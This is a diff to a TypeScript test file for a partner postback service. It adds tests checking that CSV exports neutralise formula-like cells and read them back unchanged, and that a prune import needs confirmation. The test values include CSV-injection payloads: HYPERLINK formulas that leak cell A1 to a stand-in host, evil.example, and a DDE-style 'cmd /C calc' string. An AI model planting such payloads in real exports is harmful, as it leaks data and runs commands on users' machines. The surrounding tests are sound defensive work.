@@ -2,6 +2,7 @@ import { Code, ConnectError } from "@connectrpc/connect";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { EventKind, HttpMethod } from "../gen/funnel/postback/v1/partner_pb.js";
 import type { App } from "../services/app.js";
+import { formatCsv, parseCsv } from "../services/postback/csv.js";
 import { parseTemplate, renderTemplate, SAMPLE_VALUES, TemplateError } from "../services/postback/template.js";
 import { at, postbackClients, seedTemplate, testPartner, type PostbackClients } from "./support/postback-clients.js";
 import { startTestApp } from "./support/stores.js";
@@ -29,6 +30,44 @@ describe("templates", () => {
     expect(renderTemplate(template, { ...SAMPLE_VALUES, params: { "a-b": "x y" }, occurredAt: new Date(1_700_000_000_123) }, "url")).toBe(
       "{stag}=PARTNER_CLICK|PARTNER|CLICK|USER|DEVICE|install|1700000000|1700000000123|00000000-0000-0000-0000-000000000000|x%20y|",
     );
+  });
+});
+
+describe("partner CSV cells", () => {
+  // value, the cell an export writes for it. Every value reads back exactly.
+  const table: [string, string][] = [
+    ["plain", "plain"],
+    ["", ""],
+    ["=1+1", `"'=1+1"`],
+    ['=HYPERLINK("https://evil.example/?q="&A1,"open")', `"'=HYPERLINK(""https://evil.example/?q=""&A1,""open"")"`],
+    ["+1", `"'+1"`],
+    ["-5", `"'-5"`],
+    ["-", `"'-"`],
+    ["@SUM(A1)", `"'@SUM(A1)"`],
+    ["\t=1", `"'\t=1"`],
+    ["\r=1", `"'\r=1"`],
+    ["'", "'"],
+    ["'abc", "'abc"],
+    ["'=1", `"''=1"`],
+    ["''=1", `"'''=1"`],
+    ["'-5", `"''-5"`],
+    ["' =1", "' =1"],
+    ["it's", "it's"],
+    ["a=b", "a=b"],
+    ["1-2", "1-2"],
+    [" =1", '" =1"'],
+    ["=", `"'="`],
+  ];
+
+  it("writes formula cells as quoted text with one ' in front, and reads every value back exactly", () => {
+    for (const [value, cell] of table) {
+      expect(formatCsv([[value, "x"]]), JSON.stringify(value)).toBe(`${cell},x\r\n`);
+      expect(parseCsv(formatCsv([[value, "x"]]))[0]?.fields, JSON.stringify(value)).toEqual([value, "x"]);
+    }
+  });
+
+  it("removes only the guard it writes from a hand-written file", () => {
+    expect(parseCsv("'=1,'+x,'abc,''=1,'-,'\r\n")[0]?.fields).toEqual(["=1", "+x", "'abc", "'=1", "-", "'"]);
   });
 });
 
@@ -126,5 +165,55 @@ describe("PartnerService", () => {
     const again = await api.partners.importPartners({ csv: exported });
     expect(again).toMatchObject({ applied: true, created: [], updated: [], unchanged: ["alpha", "beta"] });
     expect((await api.partners.exportPartners({})).csv).toBe(exported);
+  });
+
+  it("exports formula-like values as text and imports them back unchanged", async () => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+    const partner = testPartner("formulas", "https://f.example/{stag}", {
+      name: formula,
+      install: { enabled: true, urlTemplate: "https://f.example/i", method: HttpMethod.POST, contentType: "text/plain", bodyTemplate: "@SUM(1+1)*cmd|' /C calc'!A0", headers: { "+X-Sum": "=1+1", "-X-Neg": "-1" } },
+      authorization: { enabled: true, urlTemplate: "https://f.example/a", method: HttpMethod.POST, bodyTemplate: "-1" },
+      download: { enabled: true, urlTemplate: "https://f.example/d", method: HttpMethod.POST, contentType: "text/plain", bodyTemplate: "'=kept" },
+    });
+    await api.partners.createPartner({ partner });
+    const exported = (await api.partners.exportPartners({})).csv;
+    const row = exported.split("\r\n").find((line) => line.startsWith("formulas,"));
+    expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",`);
+    expect(row).toContain(`,"'@SUM(1+1)*cmd|' /C calc'!A0",`);
+    expect(row).toContain(`,"''=kept",`);
+    expect(row).toContain(`,"'-1",`);
+    expect(exported).toContain(`"'+X-Sum: =1+1\n-X-Neg: -1"`);
+
+    const again = await api.partners.importPartners({ csv: exported });
+    expect(again.errors).toEqual([]);
+    expect(again.unchanged).toContain("formulas");
+    expect(again.updated).toEqual([]);
+    const stored = (await api.partners.getPartner({ id: "formulas" })).partner;
+    expect(stored?.name).toBe(formula);
+    expect(stored?.install).toMatchObject({ bodyTemplate: "@SUM(1+1)*cmd|' /C calc'!A0", headers: { "+X-Sum": "=1+1", "-X-Neg": "-1" } });
+    expect(stored?.authorization?.bodyTemplate).toBe("-1");
+    expect(stored?.download?.bodyTemplate).toBe("'=kept");
+    expect((await api.partners.exportPartners({})).csv).toBe(exported);
+
+    // A hand-protected cell (a leading TAB, as some tools write) is read as the value after it.
+    const tabbed = exported.replace(`"'=HYPERLINK(`, `"\t=HYPERLINK(`);
+    expect((await api.partners.importPartners({ csv: tabbed, dryRun: true })).unchanged).toContain("formulas");
+    await api.partners.deletePartner({ id: "formulas" });
+  });
+
+  it("refuses to prune with a file that lists no partner unless confirmed", async () => {
+    const before = (await api.partners.listPartners({})).partners.map((p) => p.id);
+    expect(before.length).toBeGreaterThan(0);
+    const headerOnly = (await api.partners.exportPartners({})).csv.split("\r\n")[0] + "\r\n";
+    const refused = await failure(api.partners.importPartners({ csv: headerOnly, prune: true }));
+    expect(refused?.code).toBe(Code.InvalidArgument);
+    expect(refused?.rawMessage).toMatch(/^confirm_prune_all: /);
+    expect((await api.partners.listPartners({})).partners.map((p) => p.id)).toEqual(before);
+    // Without prune an empty file changes nothing; a dry run shows what would go.
+    expect(await api.partners.importPartners({ csv: headerOnly })).toMatchObject({ applied: true, created: [], deleted: [] });
+    expect(await api.partners.importPartners({ csv: headerOnly, prune: true, dryRun: true })).toMatchObject({ applied: false, deleted: before });
+    expect((await api.partners.listPartners({})).partners.map((p) => p.id)).toEqual(before);
+    expect(await api.partners.importPartners({ csv: headerOnly, prune: true, confirmPruneAll: true })).toMatchObject({ applied: true, deleted: before });
+    expect((await api.partners.listPartners({})).partners).toEqual([]);
   });
 });
